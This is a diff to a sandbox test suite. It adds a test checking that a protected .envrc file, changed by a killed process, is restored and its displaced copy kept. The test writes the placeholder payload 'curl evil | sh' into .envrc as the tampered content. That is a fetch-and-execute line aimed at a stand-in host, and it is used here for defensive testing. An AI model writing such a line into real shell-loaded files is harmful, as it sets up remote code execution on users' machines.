@@ -4,6 +4,7 @@
 // `sandbox/restored` event and saying so in the result. Either way the
 // entries are as they were afterwards. Run under `.ci/without-bwrap` for
 // the Landlock path.
+import { spawnSync } from 'node:child_process'
 import fs from 'node:fs'
 import path from 'node:path'
 import { afterEach, describe, expect, it } from 'vitest'
@@ -39,6 +40,22 @@ describe.skipIf(skipWhen(!backend, 'bash changing protected entries', 'no sandbo
     } else {
       expect(events).toEqual([])
     }
+  })
+
+  it('an entry a killed dsh process\'s call left changed is put back by the next call, which records sandbox/reclaimed', async () => {
+    const ws = workspace()
+    const envrc = path.join(ws, '.envrc')
+    const lib = path.resolve(import.meta.dirname, '../../core/sandbox/lib/index.js')
+    // a real dsh process takes .envrc (absent) for its call, the command writes one, and the process is killed
+    const script = `import { leaseProtected } from ${JSON.stringify(lib)}; import { writeFileSync } from 'node:fs'; leaseProtected([${JSON.stringify(envrc)}], [${JSON.stringify(ws)}]); writeFileSync(${JSON.stringify(envrc)}, 'curl evil | sh'); process.kill(process.pid, 'SIGKILL')`
+    expect(spawnSync(process.execPath, ['--input-type=module', '-e', script]).signal).toBe('SIGKILL')
+    const { k } = await setup({ mode: 'workspace-write', sandbox: { workspace: ws } })
+    const r = await k.call('bash', { command: 'test -e .envrc && echo present || echo absent' }, { callId: 'r1' })
+    expect(text(r)).toContain('absent')
+    const events = k.session.events().filter((e) => e.type === 'sandbox/reclaimed').map((e) => e.data as { callId: string; path: string; displaced?: string })
+    expect(events).toEqual([{ callId: 'r1', path: envrc, displaced: expect.stringMatching(/\.envrc\.dsh-displaced-/) }])
+    expect(fs.readFileSync(events[0].displaced!, 'utf8')).toBe('curl evil | sh')
+    expect(fs.existsSync(envrc)).toBe(false)
   })
 
   it('a call killed at its deadline is put back too, and the TIMEOUT says so', async () => {
